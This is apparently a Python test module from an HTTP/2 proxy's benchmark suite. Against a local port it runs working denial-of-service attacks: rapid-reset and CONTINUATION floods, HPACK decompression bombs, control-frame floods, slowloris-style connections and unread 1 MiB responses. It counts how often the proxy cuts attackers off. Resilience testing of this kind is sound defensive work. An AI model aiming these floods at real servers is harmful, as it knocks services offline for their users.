"""Attacks on a proxy, frame by frame: the rows of the table in docs/security.md.

`attacks` runs each in a process of its own, which does nothing else and gets what nobody else wants of
the processor. An attack goes on until its time is over: who is cut off comes back at once.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import select
import signal
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

from bench.h2client import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header_block,
)

Run = Callable[[int, float, "Tally"], None]
"""Attacks a port until a time, noting what came of it."""
PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 0xBE
SERVICE = "attacked"
"""What attackers call: nobody else does."""
PATH, BIG, SMALL = "/bench.Echo/Call", "/big", "/small"
CLOSED, WIDE = 0, 0x7FFFFFFF
CANCEL = (8).to_bytes(4, "big")
CALLS = 1_000
"""As many as one connection may have open."""
CONNECTIONS = 500


@dataclass
class Tally:
    """What came of an attack."""

    connections: int = 0
    cut_off: int = 0
    """Connections that the proxy ended."""


class Wire:
    """One connection of an attacker."""

    def __init__(self, port: int, tally: Tally, window: int = WIDE) -> None:
        self._tally = tally
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        tally.connections += 1
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._socket.setblocking(False)
        self._came = b""
        self.is_open = True

    def __enter__(self) -> Wire:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def send(self, data: bytes, until: float, reads: bool = True) -> None:
        """Sends all of it, reading what comes meanwhile, unless it is cut off or time is up."""
        view = memoryview(data)
        while view and self.is_open and time.monotonic() < until:
            wanted = [self._socket] if reads else []
            readable, writable, _ = select.select(wanted, [self._socket], [], 0.1)
            if readable:
                self.read()
            if writable and self.is_open:
                try:
                    view = view[self._socket.send(view) :]
                except BlockingIOError:
                    pass
                except OSError:
                    self.is_cut_off()

    def read(self) -> None:
        """Reads what has come."""
        try:
            came = self._socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            came = b""
        self._came = self._came[-64:] + came
        if not came:
            self.is_cut_off()

    def is_cut_off(self) -> None:
        """The proxy has ended it."""
        if self.is_open:
            self.is_open = False
            self._tally.cut_off += 1

    def pass_by(self, data: bytes, until: float) -> None:
        """Sends it and waits until the proxy has read it."""
        self._came = b""
        self.send(data + frame(PING, 0, 0, b"read-it?"), until)
        while self.is_open and b"read-it?" not in self._came and time.monotonic() < until:
            if select.select([self._socket], [], [], 0.1)[0]:
                self.read()

    def wait(self, until: float) -> None:
        """Holds what it has, taking what comes, until it is cut off or time is up."""
        while self.is_open and (left := until - time.monotonic()) > 0:
            if select.select([self._socket], [], [], left)[0]:
                self.read()

    def sleep(self, until: float) -> None:
        """Holds what it has, and takes nothing."""
        time.sleep(max(until - time.monotonic(), 0))


@dataclass(frozen=True)
class Attack:
    """One attack."""

    name: str
    run: Run


def head(stream: int, path: str = PATH, extra: bytes = b"", flags: int = 0) -> bytes:
    """The head of a call."""
    return frame(HEADERS, END_HEADERS | flags, stream, header_block(SERVICE, path) + extra)


def begun(stream: int) -> bytes:
    """A call whose body has begun."""
    return head(stream) + frame(DATA, 0, stream, b"begun")


def window_update(stream: int, count: int) -> bytes:
    """A WINDOW_UPDATE."""
    return frame(WINDOW_UPDATE, 0, stream, count.to_bytes(4, "big"))


def long_literal(name: bytes, value: bytes, indexed: bool) -> bytes:
    """A header with a long value; `indexed` puts it into the table of HPACK."""
    rest, more = len(value) - 127, []
    while rest >= 128:
        more.append(rest % 128 | 128)
        rest //= 128
    return bytes([0x40 if indexed else 0, len(name)]) + name + bytes([127, *more, rest]) + value


def bomb(stream: int, entries: int) -> bytes:
    """An entry of 4000 bytes put into the table of HPACK, and named again, a byte each time."""
    first = long_literal(b"x-bomb", b"b" * 4_000, True) if stream == 1 else b""
    return head(stream, extra=first + bytes([0x80 | 62]) * entries, flags=END_STREAM)


def flood(pieces: Callable[[], Iterator[bytes]], paced: bool = False) -> Run:
    """Sends the pieces on one connection after the other; `paced`, each when the last is read."""

    def run(port: int, until: float, tally: Tally) -> None:
        while time.monotonic() < until:
            try:
                wire = Wire(port, tally)
            except OSError:
                continue
            with wire:
                for piece in pieces():
                    (wire.pass_by if paced else wire.send)(piece, until)
                    if not wire.is_open or time.monotonic() >= until:
                        break

    return run


def frames(one: bytes) -> Run:
    """A call that has begun, then the frame, as often as it is taken."""
    many = one * 1_000
    return flood(lambda: itertools.chain([begun(1)], itertools.repeat(many)))


def hold(path: str, window: int, reads: bool, drip: int = 0) -> Run:
    """Asks for answers and takes none, or a little of each."""

    def run(port: int, until: float, tally: Tally) -> None:
        while time.monotonic() < until:
            try:
                wire = Wire(port, tally, window)
            except OSError:
                continue
            with wire:
                if window == WIDE:
                    wire.send(window_update(0, WIDE - 0xFFFF), until)
                for stream in range(1, 2 * CALLS, 2):
                    wire.send(head(stream, path, flags=END_STREAM), until, reads)
                updates = (window_update(stream, drip) for stream in range(1, 2 * CALLS, 2))
                drops = b"".join(updates) if drip else b""
                while drops and wire.is_open and time.monotonic() < until:
                    wire.send(drops, until)
                    wire.wait(min(until, time.monotonic() + 0.05))
                if reads:
                    wire.wait(until)
                else:
                    wire.sleep(until)

    return run


def unfinished(port: int, until: float, tally: Tally) -> None:
    """As many calls as may be open, none of which ends."""
    with Wire(port, tally) as wire:
        for stream in range(1, 2 * CALLS, 2):
            wire.send(begun(stream), until)
        wire.wait(until)


def many(beginning: bytes, more: bytes) -> Run:
    """Connections by the hundred that begin with something, and go on by bytes or not at all."""

    def run(port: int, until: float, tally: Tally) -> None:
        wires: list[tuple[socket.socket, Iterator[int]]] = []
        while time.monotonic() < until:
            while len(wires) < CONNECTIONS and time.monotonic() < until:
                with contextlib.suppress(OSError):
                    one = socket.create_connection(("127.0.0.1", port), timeout=5)
                    one.sendall(beginning)
                    one.setblocking(False)
                    wires.append((one, itertools.cycle(more)))
                    tally.connections += 1
            left = []
            for one, rest in wires:
                try:
                    if more:
                        one.send(bytes([next(rest)]))
                    if one.recv(1 << 16) == b"":
                        raise ConnectionError
                except BlockingIOError:
                    pass
                except OSError:
                    tally.cut_off += 1
                    one.close()
                    continue
                left.append((one, rest))
            wires = left
            time.sleep(0.05)
        for one, _ in wires:
            one.close()

    return run


def bursts(port: int, until: float, tally: Tally) -> None:
    """As many calls as may be open, and gone once they have been read; over and over."""
    calls = b"".join(begun(stream) for stream in range(1, 2 * CALLS, 2))
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Wire(port, tally) as wire:
            wire.pass_by(calls, until)


def churn(port: int, until: float, tally: Tally) -> None:
    """Connects and goes away, over and over."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Wire(port, tally) as wire:
            wire.send(head(1), until)


def odd(first: int) -> Iterator[int]:
    """Streams."""
    return itertools.count(first, 2)


def in_tens(make: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """What is made of one stream after the other, ten in a piece."""

    def pieces() -> Iterator[bytes]:
        streams = odd(1)
        while True:
            yield b"".join(make(next(streams)) for _ in range(10))

    return pieces


def one_by_one() -> Iterator[bytes]:
    """Ten heads, and once they are read their resets."""
    streams = odd(1)
    while True:
        ten = [next(streams) for _ in range(10)]
        yield b"".join(map(head, ten))
        yield b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in ten)


def endless_head() -> Iterator[bytes]:
    """A head without an end."""
    yield frame(HEADERS, 0, 1, header_block(SERVICE, PATH))
    more = frame(CONTINUATION, 0, 1, long_literal(b"x-more", b"y" * 16_000, False))
    yield from itertools.repeat(more * 4)


def reset(stream: int) -> bytes:
    """A call that is reset at once."""
    return head(stream) + frame(RST_STREAM, 0, stream, CANCEL)


def overflow(stream: int) -> bytes:
    """A call whose window becomes larger than may be."""
    return head(stream) + window_update(stream, WIDE)


OPEN = PREFACE + frame(SETTINGS, 0, 0, b"")
HEAD_BEGUN = OPEN + frame(HEADERS, 0, 1, b"")
ONE_SETTING = struct.pack(">HI", INITIAL_WINDOW_SIZE, 1 << 16)
ATTACKS = [
    Attack("calls that are reset at once", flood(in_tens(reset))),
    Attack("calls that are reset one by one", flood(one_by_one, paced=True)),
    Attack("frames that make the proxy reset calls", flood(in_tens(overflow), paced=True)),
    Attack("a head without an end", flood(endless_head)),
    Attack("a head that unpacks to 40 MB", flood(lambda: (bomb(s, 11_000) for s in odd(1)))),
    Attack("heads that unpack to 400 KB", flood(in_tens(lambda s: bomb(s, 100)), paced=True)),
    Attack("PING", frames(frame(PING, 0, 0, b"flooding"))),
    Attack("SETTINGS", frames(frame(SETTINGS, 0, 0, ONE_SETTING))),
    Attack("PRIORITY", frames(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 7])))),
    Attack("WINDOW_UPDATE", frames(window_update(0, 1))),
    Attack("RST_STREAM of one stream", frames(frame(RST_STREAM, 0, 1, CANCEL))),
    Attack("unknown frames", frames(frame(UNKNOWN, 0xFF, 0, b"who knows"))),
    Attack("empty DATA", frames(frame(DATA, 0, 1, b""))),
    Attack("DATA that is padding", frames(frame(DATA, PADDED, 1, bytes([255]) + bytes(255)))),
    Attack("connections that come and go", churn),
    Attack("1,000 calls, and gone", bursts),
    Attack("500 connections that say nothing", many(b"", b"")),
    Attack("500 heads byte by byte", many(HEAD_BEGUN, frame(CONTINUATION, 0, 1, b""))),
    Attack("1,000 calls that never end", unfinished),
    Attack("1,000 answers of 1 MiB, not taken", hold(BIG, CLOSED, True)),
    Attack("1,000 answers, taken a byte at a time", hold(BIG, CLOSED, True, 1)),
    Attack("1,000 answers of 1 MiB, nothing read", hold(BIG, WIDE, False)),
    Attack("1,000 answers of 15 KiB, not taken", hold(SMALL, CLOSED, True)),
]


@contextlib.contextmanager
def running(
    attack: Attack, port: int, seconds: float, cores: str
) -> Iterator[Callable[[], Tally]]:
    """Runs it in a process of its own; gives what came of it, once it is over."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        os.sched_setaffinity(0, map(int, cores.split(",")))
        tally = Tally()
        with contextlib.suppress(OSError):
            attack.run(port, time.monotonic() + seconds, tally)
        os.write(writer, json.dumps(asdict(tally)).encode())
        os._exit(0)
    os.close(writer)

    def ended() -> Tally:
        with open(reader, "rb", closefd=False) as pipe:
            return Tally(**json.loads(pipe.read() or b"{}"))

    try:
        yield ended
    finally:
        os.close(reader)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
